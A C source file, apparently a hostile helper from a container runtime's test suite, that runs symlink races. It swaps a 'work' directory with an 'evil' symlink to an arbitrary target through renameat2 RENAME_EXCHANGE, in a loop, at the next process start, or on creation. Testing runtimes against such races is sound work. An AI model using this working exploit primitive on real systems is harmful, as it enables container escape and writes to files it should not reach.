/* exchange DIR TARGET: exchanges the directory DIR/work with DIR/evil, a link to TARGET, without
   end. exchange_late DIR TARGET: exchanges them once, when the next process appears in the pod.
   exchange_made DIR: exchanges DIR/work, whenever somebody has made it, with DIR/private. */
#define _GNU_SOURCE
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int prepare(int argc, char **argv) {
  if (argc != 3 || chdir(argv[1]) != 0) return 0;
  mkdir("work", 0777);
  return symlink(argv[2], "evil") == 0;
}

static long flip_with(const char *other) {
  return syscall(SYS_renameat2, AT_FDCWD, "work", AT_FDCWD, other, RENAME_EXCHANGE);
}

static void flip(void) {
  flip_with("evil");
}

int exchange(int argc, char **argv) {
  if (!prepare(argc, argv)) return 2;
  puts("up");
  for (;;) flip();
}

int exchange_made(int argc, char **argv) {
  if (argc != 2 || chdir(argv[1]) != 0) return 2;
  puts("up");
  for (;;) {
    while (flip_with("private") != 0) continue;
    /* Both are put away before it begins again. */
    while (access("work", F_OK) == 0) usleep(1000);
  }
}

int exchange_late(int argc, char **argv) {
  if (!prepare(argc, argv)) return 2;
  int next = last_pid() + 1;
  puts("up");
  while (kill(next, 0) != 0 && errno == ESRCH) continue;
  flip();
  pause();
  return 0;
}
